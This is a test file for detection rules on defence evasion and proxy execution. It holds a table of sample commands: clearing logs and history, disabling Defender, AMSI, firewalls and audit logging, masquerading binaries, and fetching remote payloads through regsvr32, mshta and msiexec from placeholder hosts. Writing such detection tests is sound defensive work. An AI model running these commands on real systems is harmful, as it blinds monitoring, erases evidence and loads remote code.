import { defenceEvasionRules } from './defence-evasion.rules.js';
import { impairDefencesRules } from './impair-defences.rules.js';
import { proxyExecutionRules } from './proxy-execution.rules.js';
import { readExamples, rulesMatching } from './matching-rules.js';

/** One statement or more for every rule; harmless, made for this table. */
const examples = readExamples(String.raw`
event-log-clear: wevtutil cl System
log-clear-unix: rm -rf /var/log/syslog
log-clear-unix: true > /var/log/messages
logon-records-clear: cat /dev/null > /var/log/wtmp
logon-records-clear: > /var/log/auth.log
mail-spool-clear: rm -rf /var/mail/root
history-clear-unix: history -c
history-clear-unix: rm ~/.bash_history
history-clear-powershell: Remove-Item (Get-PSReadlineOption).HistorySavePath
file-delete-secure: shred -u x
file-delete-windows: del /f %temp%\x.txt
file-delete-windows: Remove-Item -Path $env:TEMP\x
file-delete-unix: rm -f /tmp/x
prefetch-clear: del C:\Windows\Prefetch\*.pf
recycle-bin-clear: rd /s /q C:\$Recycle.Bin
share-removal: net use \\server1\share /delete
admin-shares-off: reg add HKLM\SYSTEM\CurrentControlSet\Services\LanmanServer\Parameters /v AutoShareWks /d 0
timestomp-windows: (Get-Item x).LastWriteTime = '01/01/2001'
timestomp-unix: touch -r a b
usn-delete: fsutil usn deletejournal /D C:
indicator-removal: rundll32.exe InetCpl.cpl,ClearMyTracksByProcess 255
dns-cache-clear: ipconfig /flushdns
network-history-clear: reg delete "HKCU\Software\Microsoft\Terminal Server Client\Default" /va /f
persistence-clear: schtasks /delete /tn x /f
relocate: copy "%~f0" "%TEMP%\x.bat"
hidden-attribute: attrib +h x.txt
hidden-dot-file: mkdir /var/tmp/.hidden
hidden-user: reg add "HKLM\Software\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v bob /d 0
alternate-data-stream: type x.exe > y.txt:x.exe
extended-attributes: setfattr -n user.x -v y f
resource-fork: cat x/..namedfork/rsrc
hidden-file-system: veracrypt --mount x
virtual-instance: VBoxManage startvm x --type headless
process-argument-spoof: exec -a x /bin/true
ignore-interrupts: nohup ./x &
bind-mount: mount --bind /tmp/x /proc/123
email-hiding-rule: New-InboxRule -Name x -DeleteMessage $true
file-exclusion: reg query "HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths" Get-Item query
rename-tool: copy C:\Windows\System32\cmd.exe C:\Temp\lssas.exe
legitimate-name: copy x.exe C:\Temp\svchost.exe
task-masquerade: schtasks /create /tn win32times /tr x
double-extension: copy x.exe report.pdf.exe
right-to-left: copy x [char]0x202E
space-after-name: mv x 'x '
file-type-masquerade: rundll32 x.png,Start
file-type-masquerade-unix: bash /tmp/a.png
masquerade-location: copy x "\\?\C:\Windows \System32\x.exe"
break-process-tree: (setsid /tmp/x)
masquerade-account: net user HelpAssistant x /add
decode-certutil: certutil -decode a.b64 a.exe
encode-certutil: certutil -encode a.exe a.b64
base64-decode: echo aGk= | base64 -d
unpack: tar -xzf a.tar.gz
decompress-memory: New-Object IO.Compression.GzipStream($m)
obfuscated-base64: echo QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB | base64 -d
command-obfuscation: &("{1}{0}" -f 'ex','i')
separator-noise: ,;,ping 192.0.2.1
quoted-member: [Net.Dns]::"GetHostAddresses"('a.example.test')
quoted-member: & 'Invoke-Expression' $x
separator-variable: ping$IFS-c$IFS\192.0.2.1
separator-variable: IFS=','; x='ping,192.0.2.1'; $x
brace-words: {ping,-c,1,192.0.2.1}
shell-slices: ${'$'}{z:2:1}${'$'}{z:20:1}${'$'}{z:17:1} x
shell-escapes: $'\x77\x67\x65\x74' x
shell-escapes: printf '%b' '\0150\0164\0164\0160\0072\0057'
string-replace-run: ('a'+'b'+'c')
binary-padding: dd if=/dev/zero bs=1 count=1 >> x
packing: upx -9 x
steganography: steghide embed -cf a.jpg -ef b
compile-after: csc.exe /target:library x.cs
html-smuggling: window.navigator.msSaveOrOpenBlob(b)
api-hashing: ror13 hash
registry-payload: reg add HKCU\Software\x /v y /d AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
lnk-smuggling: $l.IconLocation = "http://example.test/x.ico"
svg-smuggling: <svg><script>1</script></svg>
embedded-payload: tail -n +20 "$0" | base64 -d
encrypted-payload: $a.CreateDecryptor()
compressed-payload: H4sIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
polymorphic: sed -i "s/x/$RANDOM/" "$0"
lnk-stripped: strip ./x
indicator-tool: ThreatCheck.exe -f x
environment-key: if ($env:USERDNSDOMAIN -ne 'example.test') { exit }
mutex: New-Object Threading.Mutex($false,'x')
delay-ping: ping 127.0.0.1 -n 120 > nul
delay-short: ping 127.0.0.1 -n 3 > nul
reflective-load: [Reflection.Assembly]::Load($b)
assembly-file: [Reflection.Assembly]::LoadFile('x.dll')
template-injection: word/_rels/settings.xml.rels
file-permissions-windows: icacls x /grant Everyone:F
symlink-evaluation: fsutil behavior set SymlinkEvaluation R2R:1
file-permissions-unix: chmod 777 x
immutable-attribute: chattr +i x
modify-image: boot system flash:x
raw-volume: $s = "\\.\C:"
impersonate: Send-MailMessage -To a@example.test -From ceo@example.test
hidden-window-applescript: $ie.Visible = $false
defender-preference: Set-MpPreference -DisableRealtimeMonitoring $true
defender-exclusion: Add-MpPreference -ExclusionPath C:\Temp
defender-service: sc stop WinDefend
defender-policy: reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
protection-policy: reg add "HKLM\SOFTWARE\Microsoft\Windows Defender\Features" /v TamperProtection /d 0
amsi-bypass: [Ref].Assembly.GetType('x.AmsiUtils')
etw-patch: set COMPlus_ETWEnabled=0
etw-session: logman stop EventLog-Example -ets
amsi-bypass: if ($t.Name -like "*iUtils") { $t }
mshta-script: mshta vbscript:Close(1)
install-util-quiet: InstallUtil.exe /logfile= /LogToConsole=false /U x.dll
rundll32-script: rundll32 javascript:"\..\mshtml,RunHTMLApplication"
system-name-elsewhere: Start-Process C:\ProgramData\Sync\svchost.exe
logging-policy-in-memory: $t.GetField('cachedGroupPolicySettings', 'NonPublic,Static')
remote-assembly: [Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://a.example.test/x'))
regsvr32-scriptlet: regsvr32 /s /n /u /i:x.sct scrobj.dll
script-block-logging: reg add x /v EnableScriptBlockLogging /d 0
sysmon-tamper: fltmc.exe unload SysmonDrv
security-service-stop: systemctl stop falcon-sensor
product-uninstall: wmic product where "name like 'x'" call uninstall
edr-killers: EDRSilencer.exe blockedr
office-security: reg add HKCU\Software\Microsoft\Office\16.0\Word\Security /v VBAWarnings /d 1
mitigation-off: Set-ProcessMitigation -System -Disable DEP
selinux-off: setenforce 0
macos-protection-off: csrutil disable
syslog-stop: systemctl stop rsyslog
kernel-log-off: sed -i 's/a/b/' /etc/rsyslog.conf
audit-policy: auditpol /clear /y
event-log-off: sc config EventLog start= disabled
audit-linux: auditctl -e 0
firewall-off-windows: netsh advfirewall set allprofiles state off
firewall-rule-windows: netsh advfirewall firewall add rule name=x dir=in action=allow
firewall-unix: ufw disable
firewall-unix: iptables -F
firewall-hypervisor: esxcli network firewall set --enabled false
cloud-firewall: aws ec2 authorize-security-group-ingress --group-id x
cloud-logs: aws cloudtrail stop-logging --name x
safe-mode-boot: bcdedit /set {default} safeboot network
powershell-downgrade: powershell.exe -version 2 -c x
protocol-downgrade: reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v LmCompatibilityLevel /d 2
name-resolution-block: Add-DnsClientNrptRule -Namespace x
history-off: unset HISTFILE
history-off: set +o history
powershell-history-off: Set-PSReadLineOption -HistorySaveStyle SaveNothing
command-line-audit-off: reg add x /v ProcessCreationIncludeCmdLine_Enabled /t REG_DWORD /d 0
spoof-alert: [Windows.Forms.MessageBox]::Show('virus found')
gatekeeper: xattr -d com.apple.quarantine x
mark-of-the-web: Unblock-File x
root-certificate-windows: certutil -addstore -f root x.cer
root-certificate-unix: update-ca-certificates
code-signing-policy: bcdedit /set testsigning on
sip-provider: reg add x\CryptSIPDllVerifyIndirectData\y
self-signed: signtool sign /f x y
compiled-help: hh.exe x.chm
control-panel: control.exe x.cpl
cmstp: cmstp.exe /s x.inf
install-util: InstallUtil.exe /logfile= /U x.dll
mshta: mshta.exe x.hta
mshta-remote: mshta http://example.test/x.hta
hta-file: start x.hta
msiexec: msiexec /q /i http://example.test/x.msi
msiexec-remote: msiexec /q /i http://example.test/x.msi
msiexec-remote: msiexec.exe /package https://example.test/x.msi /qn
odbcconf: odbcconf.exe /a {REGSVR x.dll}
regsvcs-regasm: regasm.exe /U x.dll
regsvr32-remote: regsvr32 /s /n /u /i:http://example.test/x.sct scrobj.dll
regsvr32: regsvr32 /s /u /i:http://example.test/x.sct scrobj.dll
rundll32: rundll32.exe x.dll,Start
verclsid: verclsid.exe /S /C {x}
mavinject: mavinject.exe 4 /INJECTRUNNING x.dll
mmc: mmc.exe -Embedding x.msc
electron: teams.exe --gpu-launcher="calc"
proxy-binaries: InfDefaultInstall.exe x.inf
dfshim: rundll32 dfshim.dll,ShOpenVerbApplication http://example.test/x
msbuild-temp: msbuild.exe %temp%\p.csproj
msbuild: MSBuild.exe x.csproj
developer-tools: Microsoft.Workflow.Compiler.exe x y
system-scripts: cscript manage-bde.wsf
gather-network-info: cscript gatherNetworkInfo.vbs
pubprn: cscript pubprn.vbs localhost script:x
sync-appv: SyncAppvPublishingServer.vbs "n;x"
xsl: wmic process list /FORMAT:x.xsl
indirect-execution: forfiles /p c:\windows /m x /c calc.exe
appx-side-load: Add-AppxPackage x.msix
side-loaded-program: start GUP.exe
custom-shell: start ms-msdt:/id x
`);
const rules = [...defenceEvasionRules, ...impairDefencesRules, ...proxyExecutionRules];

describe('rules of defence evasion', () => {
  it.each(rules.map((rule) => rule.id))('%s has an example that fires it', (id) => {
    const statements = examples.get(id) ?? [];
    expect(statements.length).toBeGreaterThan(0);
    for (const statement of statements) expect(rulesMatching(rules, statement).map((rule) => rule.id)).toContain(id);
  });

  it('has no examples for rules that are not there', () => {
    const ids = new Set(rules.map((rule) => rule.id));
    expect([...examples.keys()].filter((id) => !ids.has(id))).toEqual([]);
  });
});
